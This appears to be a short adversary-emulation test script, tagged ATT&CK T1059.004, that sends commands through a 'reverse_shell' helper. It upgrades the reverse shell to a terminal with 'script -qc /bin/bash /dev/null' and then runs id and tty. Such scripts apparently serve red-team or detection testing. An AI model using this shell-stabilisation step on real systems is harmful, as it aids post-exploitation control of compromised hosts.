# script(1) gives the shell a terminal.
# ATT&CK: T1059.004
. ./session.sh
reverse_shell <<'TYPED'
script -qc /bin/bash /dev/null
id
tty
exit
exit
TYPED
